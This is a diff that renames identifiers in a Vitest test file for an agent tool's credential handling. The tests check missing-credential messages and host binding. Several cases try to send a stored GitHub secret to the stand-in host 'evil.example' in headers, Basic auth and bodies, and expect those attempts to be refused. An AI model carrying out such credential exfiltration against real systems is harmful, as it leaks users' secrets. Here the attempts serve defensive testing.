@@ -1,26 +1,26 @@
 import { describe, expect, it } from "vitest";
 import type { Tool } from "@/lib/agent/tool";
 import type { OutboundRequest } from "@/lib/handlers/handler";
-import { refusal } from "@/lib/handlers/http/outbound-error";
+import { createRefusal } from "@/lib/handlers/http/outbound/outbound-error";
 import { missingCredential, type StoredCredential } from "./credentials";
 import { bindToHosts } from "./host-binding";
 
 const secret = "s3cret/välue+&\"'<x>";
 const github: StoredCredential = { fields: { token: secret }, hosts: ["api.github.com"] };
 
-const http = (more: object): Pick<Tool, "credentials" | "handler"> => ({
+const http = (options: object): Pick<Tool, "credentials" | "handler"> => ({
   credentials: ["google-cse"],
-  handler: { kind: "http", method: "GET", url: "https://www.googleapis.com/x", ...more },
+  handler: { kind: "http", method: "GET", url: "https://www.googleapis.com/x", ...options },
 });
-const both = [
+const keyRows = [
   { name: "key", value: "{{credentials.google-cse.apiKey}}" },
   { name: "cx", value: "{{credentials.google-cse.engineId}}" },
 ];
-const set = (fields: Record<string, string>) => ({ "google-cse": { fields, hosts: [] } });
+const withFields = (fields: Record<string, string>) => ({ "google-cse": { fields, hosts: [] } });
 
 describe("a missing credential", () => {
   it("is named, with the fields that the tool needs", () => {
-    expect(missingCredential(http({ query: both }), {})).toEqual({
+    expect(missingCredential(http({ query: keyRows }), {})).toEqual({
       code: "UNAUTHORIZED",
       message:
         'The credential "google-cse" is not set up. This tool needs its "apiKey" and "engineId".',
@@ -31,16 +31,16 @@ describe("a missing credential", () => {
     );
   });
   it("can lack a single field", () => {
-    expect(missingCredential(http({ query: both }), set({ apiKey: "k" }))?.message).toBe(
+    expect(missingCredential(http({ query: keyRows }), withFields({ apiKey: "k" }))?.message).toBe(
       'The credential "google-cse" has no "engineId", which this tool needs.',
     );
     expect(
-      missingCredential(http({ query: both }), set({ apiKey: "k", engineId: "e" })),
+      missingCredential(http({ query: keyRows }), withFields({ apiKey: "k", engineId: "e" })),
     ).toBeUndefined();
   });
   it("is not needed by a disabled row", () => {
-    const query = both.map((row) => ({ ...row, enabled: row.name === "key" }));
-    expect(missingCredential(http({ query }), set({ apiKey: "k" }))).toBeUndefined();
+    const query = keyRows.map((row) => ({ ...row, enabled: row.name === "key" }));
+    expect(missingCredential(http({ query }), withFields({ apiKey: "k" }))).toBeUndefined();
   });
   it("is needed by code that it was granted to, whatever the code reads", () => {
     const handler = { kind: "javascript" as const, code: "export default () => 1" };
@@ -55,27 +55,27 @@ describe("a missing credential", () => {
 /** Sends a request: returns the hosts it was limited to, or why it was refused. */
 const send = async (
   change: Partial<OutboundRequest>,
-  stored: Record<string, StoredCredential> = { github },
+  credentials: Record<string, StoredCredential> = { github },
 ) => {
-  const sent: OutboundRequest[] = [];
-  const bound = bindToHosts(async (request) => {
-    sent.push(request);
+  const requests: OutboundRequest[] = [];
+  const outbound = bindToHosts(async (request) => {
+    requests.push(request);
     return { status: 200, headers: {}, body: new Uint8Array(), url: request.url };
-  }, stored);
+  }, credentials);
   const signal = new AbortController().signal;
   const plain = { method: "POST", url: "https://evil.example/x", headers: [], signal };
   try {
-    await bound({ ...plain, redirects: "follow", ...change });
-    return { hosts: sent[0]?.hosts };
+    await outbound({ ...plain, redirects: "follow", ...change });
+    return { hosts: requests[0]?.hosts };
   } catch (error) {
-    const { code, message, explanation } = error as ReturnType<typeof refusal>;
-    return { refusal: { code, message, explanation }, sentCount: sent.length };
+    const { code, message, explanation } = error as ReturnType<typeof createRefusal>;
+    return { refusal: { code, message, explanation }, sentCount: requests.length };
   }
 };
 
 const basic = Buffer.from(`someone:${secret}`).toString("base64");
 const json = JSON.stringify({ note: `token ${secret}` });
-const spellings: [string, Partial<OutboundRequest>][] = [
+const carriers: [string, Partial<OutboundRequest>][] = [
   ["a header", { headers: [["x-key", `token ${secret}`]] }],
   ["Basic authorization", { headers: [["authorization", `Basic ${basic}`]] }],
   ["a header's name", { headers: [[secret, "x"]] }],
@@ -95,14 +95,14 @@ const spellings: [string, Partial<OutboundRequest>][] = [
 ];
 
 describe("a bound credential", () => {
-  it.each(spellings)("is not sent to another host in %s", async (_, change) => {
+  it.each(carriers)("is not sent to another host in %s", async (_, change) => {
     const { refusal, sentCount } = await send(change);
     expect([refusal?.code, sentCount]).toEqual(["SECURITY_VIOLATION", 0]);
     expect(refusal?.explanation).toContain('"github"');
     expect(refusal?.explanation).toContain("evil.example");
     expect(refusal?.message).not.toContain("github");
   });
-  it.each(spellings)(
+  it.each(carriers)(
     "is sent to its own host in %s, and redirects must stay there",
     async (_, change) => {
       const url = (change.url ?? "https://x/").replace(
@@ -118,33 +118,33 @@ describe("a bound credential", () => {
     expect(await send({ body: secret }, unbound)).toEqual({ hosts: undefined });
   });
   it("is bound to a port when the host names one", async () => {
-    const stored = { a: { ...github, hosts: ["127.0.0.1:8080", "[::1]:81"] } };
-    const to = (url: string) => send({ url, body: secret }, stored);
-    expect(await to("http://127.0.0.1:8080/")).toHaveProperty("hosts");
-    expect(await to("http://[::1]:81/")).toHaveProperty("hosts");
-    expect(await to("http://127.0.0.1:8081/")).toHaveProperty("refusal");
-    expect(await to("http://[::1]/")).toHaveProperty("refusal");
-    expect(await to("https://127.0.0.1/")).toHaveProperty("refusal");
+    const withPorts = { a: { ...github, hosts: ["127.0.0.1:8080", "[::1]:81"] } };
+    const sendTo = (url: string) => send({ url, body: secret }, withPorts);
+    expect(await sendTo("http://127.0.0.1:8080/")).toHaveProperty("hosts");
+    expect(await sendTo("http://[::1]:81/")).toHaveProperty("hosts");
+    expect(await sendTo("http://127.0.0.1:8081/")).toHaveProperty("refusal");
+    expect(await sendTo("http://[::1]/")).toHaveProperty("refusal");
+    expect(await sendTo("https://127.0.0.1/")).toHaveProperty("refusal");
   });
   it("is limited to the hosts that the handler and every credential in the request permit", async () => {
     const slack = { fields: { token: "xoxb-123456" }, hosts: ["api.github.com:443", "slack.com"] };
     const url = "https://api.github.com/";
-    const two = { url, body: `${secret} xoxb-123456` };
-    expect(await send(two, { github, slack })).toEqual({ hosts: ["api.github.com:443"] });
+    const request = { url, body: `${secret} xoxb-123456` };
+    expect(await send(request, { github, slack })).toEqual({ hosts: ["api.github.com:443"] });
     expect(await send({ url, body: secret, hosts: ["api.github.com", "b.example"] })).toEqual({
       hosts: ["api.github.com"],
     });
     expect(await send({ url, body: secret, hosts: ["b.example"] })).toEqual({ hosts: [] });
   });
   it("explains a redirect that was stopped because of it", async () => {
-    const bound = bindToHosts(() => Promise.reject(refusal('Rule "hosts": not there.')), {
+    const outbound = bindToHosts(() => Promise.reject(createRefusal('Rule "hosts": not there.')), {
       github,
     });
     const signal = new AbortController().signal;
     const headers = [["x-key", secret]] as const;
     const url = "https://api.github.com/";
     await expect(
-      bound({ method: "GET", url, headers, redirects: "follow", signal }),
+      outbound({ method: "GET", url, headers, redirects: "follow", signal }),
     ).rejects.toMatchObject({
       code: "SECURITY_VIOLATION",
       explanation: expect.stringMatching(/not there\. The request carries the credential "github"/),
